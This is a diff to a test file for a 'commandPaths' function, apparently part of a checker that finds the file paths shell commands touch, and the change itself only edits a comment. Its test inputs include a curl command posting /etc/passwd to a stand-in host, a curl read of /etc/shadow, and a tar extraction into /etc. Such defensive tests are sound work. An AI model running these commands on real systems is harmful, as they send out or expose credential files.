@@ -257,7 +257,7 @@ describe('commandPaths', () => {
     expect(commandPaths(cmd(['curl', '-d', '@/etc/passwd', 'https://x.test/a'])).pathLike).toEqual(['@/etc/passwd', '/etc/passwd']);
     expect(commandPaths(cmd(['curl', 'file:///etc/shadow'])).pathLike).toEqual(['/etc/shadow']);
     expect(commandPaths(cmd(['dd', 'if=/dev/zero', 'of=../x'])).pathLike).toEqual(['/dev/zero', '../x']);
-    // tar's archive and, extracting, the directory it writes into (facts/file-operands.ts)
+    // tar's archive and, extracting, the directory it writes into (facts/operands/archives.ts)
     expect(commandPaths(cmd(['tar', '-C/etc', '-xf', 'a'])).pathLike).toEqual(['-C/etc', '/etc', 'a']);
     expect(commandPaths(cmd(['tar', '-xf', 'a'])).pathLike).toEqual(['a', '.']);
     expect(commandPaths(cmd(['tar', '-C', 'x', '-C', 'y', '-xf', 'a'])).pathLike).toEqual(['a', 'x/y']);
